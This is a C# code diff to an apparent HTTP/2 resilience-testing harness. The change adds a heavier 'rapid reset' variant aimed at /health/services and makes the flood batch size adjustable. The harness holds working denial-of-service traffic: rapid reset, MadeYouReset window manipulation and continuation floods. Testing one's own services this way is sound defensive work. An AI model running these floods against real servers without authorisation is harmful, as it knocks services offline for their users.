@@ -8,7 +8,8 @@ public static class Http2Attacks
 
     public static IReadOnlyList<Attack> All { get; } =
     [
-        new("rapid reset", Ends: true, RapidResetAsync),
+        new("rapid reset", Ends: true, (address, token, scale, cancel) => RapidResetAsync(address, token, scale * 10, "/health/services", cancel)),
+        new("rapid reset of what is answered at once", Ends: false, (address, token, scale, cancel) => RapidResetAsync(address, token, scale, "/openapi.json", cancel)), // no work is left to pile up
         new("made you reset, window of nothing", Ends: true, (address, token, scale, cancel) => MadeYouResetAsync(address, token, scale, [0, 0, 0, 0], cancel)),
         new("made you reset, window too large", Ends: true, (address, token, scale, cancel) => MadeYouResetAsync(address, token, scale, [0x7f, 0xff, 0xff, 0xff], cancel)),
         new("continuation flood", Ends: true, (address, token, scale, cancel) => FloodAsync(
@@ -59,17 +60,17 @@ public static class Http2Attacks
         return wire;
     }
 
-    private static Task<bool> RapidResetAsync(Uri address, string token, int scale, CancellationToken cancellationToken)
+    private static Task<bool> RapidResetAsync(Uri address, string token, int times, string path, CancellationToken cancellationToken)
     {
-        var request = Http2Wire.Request("GET", "/openapi.json", token);
+        var request = Http2Wire.Request("GET", path, token);
         return FloodAsync(
-            address, scale,
+            address, times,
             (wire, i) =>
             {
                 wire.Add(Http2Wire.Headers, Http2Wire.EndHeaders | Http2Wire.EndStream, (2 * i) + 1, request);
                 wire.Add(Http2Wire.Reset, 0, (2 * i) + 1, [0, 0, 0, 8]);
             },
-            cancellationToken);
+            cancellationToken, 10 * Batch);
     }
 
     private static Task<bool> MadeYouResetAsync(Uri address, string token, int scale, byte[] window, CancellationToken cancellationToken)
@@ -110,13 +111,13 @@ public static class Http2Attacks
     }
 
     // Nothing is read while the flood runs: answers that pile up are part of it.
-    private static async Task<bool> FloodAsync(Uri address, int times, Action<Http2Wire, int> add, CancellationToken cancellationToken)
+    private static async Task<bool> FloodAsync(Uri address, int times, Action<Http2Wire, int> add, CancellationToken cancellationToken, int batch = Batch)
     {
         await using var wire = await Http2Wire.ConnectAsync(address, cancellationToken);
         for (var i = 0; i < times; i++)
         {
             add(wire, i);
-            if (i % Batch == Batch - 1)
+            if (i % batch == batch - 1)
             {
                 var sending = wire.FlushAsync(cancellationToken);
                 if (await Task.WhenAny(sending, Task.Delay(Stalled, cancellationToken)) != sending)
